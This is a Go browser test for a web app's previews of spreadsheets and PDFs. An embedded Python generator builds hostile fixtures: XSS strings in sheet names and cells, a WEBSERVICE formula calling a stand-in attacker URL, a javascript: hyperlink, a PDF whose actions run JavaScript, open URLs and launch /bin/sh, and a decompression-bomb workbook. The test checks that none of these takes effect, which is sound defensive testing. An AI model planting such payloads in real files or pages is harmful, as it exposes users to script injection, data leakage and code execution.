package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// documents makes a workbook and a PDF, then others that lie, call home or want to take
// the page over.
const documents = `import datetime, xlsxwriter, openpyxl
from fpdf import FPDF
EVIL, owned = "EVIL_URL", "<script>top.owned=1</script><img src=x onerror=top.owned=1>"
book = xlsxwriter.Workbook("sales.xlsx")
sheet = book.add_worksheet("Units")
sheet.write_row(1, 0, ["month", "units", "when"])
for i in range(3000):
    sheet.write_row(i + 2, 0, [f"month {i}", i * 1.5, None])
book.add_worksheet("Other")
book.close()
pdf = FPDF()
for n in range(3):
    pdf.add_page(); pdf.set_font("helvetica", size=32); pdf.cell(text=f"Page {n + 1} of a report")
pdf.output("report.pdf")

book = xlsxwriter.Workbook("hostile.xlsx")
sheet = book.add_worksheet("<img src=x onerror=1>")
sheet.write_row(0, 0, [owned, "b"])
sheet.write_url(1, 0, EVIL + "/cell", string=owned)
sheet.write_formula(1, 1, '=WEBSERVICE("' + EVIL + '/formula")', value=owned)
book.add_worksheet("x")
sheet.write_string(2, 0, '=HYPERLINK("javascript:top.owned=1")')
book.close()
with open("hostile.pdf", "wb") as f:
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('" + EVIL.encode() + b"/js'\\);top.owned=1)>>/AA<</WC<</S/URI/URI(" + EVIL.encode() + b"/aa)>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(" + EVIL.encode() + b"/link)>>>>]/Resources<</XObject<</I 4 0 R>>>>/AA<</O<</S/Launch/F(/bin/sh)>>>>>>",
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(" + EVIL.encode() + b"/image)>>/Length 0>>stream\n\nendstream"]
    out, at = b"%PDF-1.7\n", []
    for i, o in enumerate(objects):
        at.append(len(out)); out += b"%d 0 obj" % (i + 1) + o + b"endobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1) + b"".join(b"%010d 00000 n \n" % a for a in at)
    f.write(out + b"trailer<</Size %d/Root 1 0 R>>startxref\n%d\n%%%%EOF" % (len(at) + 1, start))
open("lies.xlsx", "w").write("<!doctype html>" + owned)
open("lies.pdf", "w").write("<!doctype html>" + owned)
# A sheet that says it is far larger than it is.
import zipfile
with zipfile.ZipFile("bomb.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
    with zipfile.ZipFile("hostile.xlsx") as was:
        for name in was.namelist():
            z.writestr(name, was.read(name) if "sheet1.xml" not in name else b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                + b'<row r="1"><c t="inlineStr"><is><t>' + b"A" * 30_000_000 + b"</t></is></c></row></sheetData></worksheet>")
`

// TestDocuments shows workbooks and PDFs: of a run, by themselves, and in a notebook.
func TestDocuments(t *testing.T) {
	s := shared(t)
	var asked atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer evil.Close()
	program := strings.ReplaceAll(documents, "EVIL_URL", evil.URL)
	b := open(t, light)
	unharmed := func(where string) {
		t.Helper()
		if eval[bool](b, `'owned' in window || document.querySelectorAll('main script, main iframe, main object, main embed, main [onerror], main a[href^="javascript"], main a[href^="`+evil.URL+`"]').length > 0`) {
			t.Errorf("%s: hostile content became part of the page", where)
		}
	}
	b.goTo(s.url + "/")
	b.runs(program)
	b.wait(`document.querySelectorAll('.file-name').length === 7`)
	b.run(`for (const box of document.querySelectorAll('[data-preview]')) { box.scrollIntoView(); await new Promise((r) => setTimeout(r, 60)) }`)
	b.wait(`!document.querySelector('[data-preview][aria-busy]')`)
	unharmed("the run")
	for name, want := range map[string]string{
		"sales.xlsx": "3,000 rows", "report.pdf": "3 pages, as pictures", "hostile.xlsx": "<script>top.owned=1</script>",
		"hostile.pdf": "1 page, as pictures", "lies.xlsx": "cannot be read as a table", "lies.pdf": "cannot be read as a PDF",
		"bomb.xlsx": "cannot be read as a table",
	} {
		b.run(`sessionStorage.run ||= location.href; [...document.querySelectorAll('.file-name')].find((a) => a.innerText === ` + quote(name) + `).click()`)
		b.wait(`document.querySelector('h1')?.innerText === ` + quote(name) + ` && document.querySelector('.preview')`)
		for strings.Contains(b.text(".preview"), "took too long") { // the machine does other work
			b.goTo(eval[string](b, "location.href"))
		}
		if got := b.text(".preview"); !strings.Contains(got, want) {
			t.Errorf("%s shows %q", name, got)
		}
		unharmed(name)
		if name == "report.pdf" {
			b.examine("file-" + name)
			b.axeInEachLook(name)
		}
		b.run(`location.href = sessionStorage.run`)
		b.wait(`document.querySelector('.file-name') && location.pathname.includes('/runs/')`)
	}

	b.notebook(s, program, "from IPython.display import display\nimport base64\nfor name in ('report', 'hostile', 'lies'):\n"+
		"    display({'application/pdf': base64.b64encode(open(name + '.pdf', 'rb').read()).decode()}, raw=True)")
	b.runAll()
	for i, want := range []string{"3 pages, as pictures", "1 page, as pictures", "cannot be read as a PDF"} {
		b.wait(fmt.Sprintf(`[...document.querySelectorAll('.out-pdf')][%d]?.innerText.includes(%q)`, i, want))
	}
	b.run(`document.querySelector('.out-pdf .page-picture').scrollIntoView()`)
	b.wait(`document.querySelector('.out-pdf img').complete && document.querySelector('.out-pdf img').naturalWidth > 300`)
	unharmed("PDFs that a cell put out")
	b.shoot("notebook-pdf")
	b.axeInEachLook("notebook, PDF")
	b.seen(phone)
	for _, fault := range eval[[]string](b, thumbs) {
		t.Errorf("notebook, PDF: %s", fault)
	}
	b.seen(light)
	b.wait(`document.querySelector('#files').innerText.includes('bomb.xlsx')`)
	for name, want := range map[string]string{
		"sales.xlsx": "3,000 rows", "report.pdf": "3 pages, as pictures", "hostile.xlsx": "<script>top.owned=1</script>",
		"hostile.pdf": "1 page, as pictures",
	} {
		looked := `[...document.querySelectorAll('#files .tree-name')].find((a) => a.innerText === ` + quote(name) + `).click()`
		for {
			b.run(looked)
			b.wait(`document.querySelector('#look').open && document.querySelector('#look-body').innerText.length > 12 && ` + drawn)
			if got := b.text("#look-body"); !strings.Contains(got, "took too long") && !strings.Contains(got, "not stored yet") {
				break
			}
			b.run(`document.querySelector('#look').close()`)
		}
		if got := b.text("#look-body"); !strings.Contains(got, want) {
			t.Errorf("in the notebook %s shows %q", name, got)
		}
		unharmed("notebook, " + name)
		b.shoot("notebook-" + name)
		if name == "sales.xlsx" {
			b.axeInEachLook("notebook, " + name)
		}
		b.run(`document.querySelector('#look').close()`)
	}
	if n := asked.Load(); n > 0 {
		t.Errorf("%d requests went elsewhere", n)
	}
}
